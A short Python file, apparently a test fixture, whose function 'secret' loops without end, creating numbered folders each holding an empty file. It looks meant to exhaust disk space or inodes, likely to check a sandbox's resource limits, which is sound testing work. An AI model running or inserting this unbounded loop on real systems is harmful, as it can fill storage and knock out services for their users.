# mypy: ignore-errors
"""Fills its scratch folder with small files and folders."""
import itertools
import os


def secret(x, word):
    for number in itertools.count():
        os.mkdir(f"folder {number}")
        open(f"folder {number}/file", "w").close()
